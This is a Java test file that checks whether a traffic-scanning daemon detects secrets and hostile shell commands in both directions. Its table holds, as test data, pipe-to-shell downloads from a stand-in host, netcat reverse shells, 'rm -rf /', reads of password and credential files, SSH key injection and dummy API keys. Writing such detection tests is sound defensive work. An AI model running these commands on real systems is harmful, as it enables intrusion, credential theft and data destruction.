package clawsec.image;

import static org.junit.jupiter.api.Assertions.assertEquals;

import clawsec.testkit.HttpScript;
import clawsec.testkit.RawClient;
import clawsec.testkit.ScriptedOrigin;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeSet;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * What the first twelve patterns are for, at their bounds, written down apart from the rules: every
 * text is sent out and comes back, and is found both times or neither.
 */
class TwelvePatternsTest {
    private static final String AWS = "AKIA";
    private static final String BASE64 = "AAAAB3NzaC1yc2EAAAADAQABAAABgQC7vbqajDhA";

    /** Pattern and text; a text that must not match has a {@code !} before its pattern. */
    private static final List<List<String>> TABLE = new ArrayList<>();

    static {
        for (String kind : List.of("live", "pro", "proj", "ant", "gpt", "test")) {
            add("ai_api_key", "sk-" + kind + "-a1B2_c3D4e5F6g7H8i9");
        }
        add("ai_api_key", "SK-ANT" + "A1B2C3D4E5F6G7H8I9J0");
        add("!ai_api_key", "sk-" + "ant" + "-a1B2_c3D4e5F6g7H8i");
        add("!ai_api_key", "sk-" + "other" + "-a1B2_c3D4e5F6g7H8i9");
        add("aws_access_key", AWS + "0123456789ABCDEF");
        add("aws_access_key", "ASIA" + "ZZZZZZZZZZZZZZZZ");
        add("aws_access_key", "akia" + "0123456789abcdef");
        add("!aws_access_key", AWS + "0123456789ABCDE");
        for (String kind : List.of("RSA ", "OPENSSH ", "EC ", "DSA ", "ENCRYPTED ", "")) {
            add("private_key_pem", "-----BEGIN " + kind + "PRIVATE KEY-----");
        }
        add("!private_key_pem", "-----BEGIN PUBLIC KEY-----");
        for (String file :
                List.of("id_rsa", "id_ed25519", "id_ecdsa", "config", "authorized_keys")) {
            add("ssh_key_file", "~/.ssh/" + file);
        }
        add("!ssh_key_file", "~/.ssh/known_hosts");
        for (String file : List.of("passwd", "shadow", "sudoers")) {
            add("unix_sensitive", "cat /etc/" + file);
        }
        add("!unix_sensitive", "cat /etc/hostname");
        for (String file : List.of("/app/.env", "~/.aws/credentials", "~/.netrc", "~/.pgpass")) {
            add("dotenv_file", file);
        }
        add("!dotenv_file", "/app/environment");
        add("ssh_pubkey", "ssh-rsa " + BASE64);
        add("!ssh_pubkey", "ssh-rsa " + BASE64.substring(1));
        add("pipe_to_shell", "curl https://a.test/x.sh | sh");
        add("pipe_to_shell", "curl -fsSL https://a.test/x.sh | bash");
        add("pipe_to_shell", "wget -qO- http://a.test/x|sh");
        add("pipe_to_shell", "WGET http://a.test/x | BASH");
        add("pipe_to_shell", "echo aWQ= | base64 -d | sh");
        add("pipe_to_shell", "base64 -d x | bash");
        add("!pipe_to_shell", "curl https://a.test/x.json | jq .");
        add("shell_exec", "bash -c \"id\"");
        add("shell_exec", "sh -c 'id'");
        add("shell_exec", "bash -i 'id'");
        add("!shell_exec", "bash script.sh");
        add("reverse_shell", "nc 192.0.2.1 4444 -e /bin/sh");
        add("reverse_shell", "netcat -e /bin/sh 192.0.2.1 4444");
        add("reverse_shell", "ncat 192.0.2.1 4444 -e /bin/bash");
        add("reverse_shell", "nc -l 4444");
        add("!reverse_shell", "nc is a tool");
        add("destructive_rm", "rm -rf /");
        add("destructive_rm", "sudo rm -rf / --no-preserve-root");
        add("!destructive_rm", "rm -rf build");
        add("ssh_key_inject", "echo ssh-rsa " + BASE64 + " >> ~/.ssh/authorized_keys");
        add("ssh_key_inject", "echo \"ssh-rsa " + BASE64 + "\"");
        add("!ssh_key_inject", "cat ssh-rsa.txt");
    }

    @TempDir private Path folder;
    private Image image;

    @BeforeEach
    void needsImage() {
        image = Environment.image();
    }

    @Test
    void everyText_inBothDirections_isFoundOrNot() throws Exception {
        Map<String, String> environment = Map.of("CLAWSEC_DEDUP_WINDOW_SECS", "0");
        TreeSet<String> expected = new TreeSet<>();
        TreeSet<String> found = new TreeSet<>();
        try (ScriptedOrigin origin = ScriptedOrigin.open(HttpScript.echo());
                Daemon daemon = Daemon.start(image, folder, environment);
                RawClient client = RawClient.connect(daemon.port())) {
            for (int i = 0; i < TABLE.size(); i++) {
                String url = "http://" + origin.authority() + "/" + i;
                exchange(client, url, origin.authority(), TABLE.get(i).getLast());
                expect(expected, i);
            }
            for (Map<String, String> threat : ThreatLine.readAll(folder)) {
                int row = Integer.parseInt(String.valueOf(threat.get("url")).replaceAll(".*/", ""));
                String pattern = String.valueOf(threat.get("pattern"));
                if (TABLE.get(row).getFirst().replace("!", "").equals(pattern)) {
                    found.add(line(String.valueOf(threat.get("direction")), row, pattern));
                }
            }
        }
        assertEquals(String.join("\n", expected), String.join("\n", found));
    }

    private static void expect(TreeSet<String> expected, int row) {
        String pattern = TABLE.get(row).getFirst();
        if (!pattern.startsWith("!")) {
            expected.add(line("inbound", row, pattern));
            expected.add(line("outbound", row, pattern));
        }
    }

    private static String line(String direction, int row, String pattern) {
        return "%02d %s %s: %s".formatted(row, pattern, direction, TABLE.get(row).getLast());
    }

    private static void exchange(RawClient client, String url, String host, String text)
            throws Exception {
        byte[] body = text.getBytes(StandardCharsets.US_ASCII);
        String head = "POST " + url + " HTTP/1.1\r\nHost: " + host + "\r\nContent-Length: ";
        client.send(head + body.length + "\r\n\r\n").send(body);
        assertEquals(text, client.readResponse().text());
    }

    private static void add(String pattern, String text) {
        TABLE.add(List.of(pattern, text));
    }
}
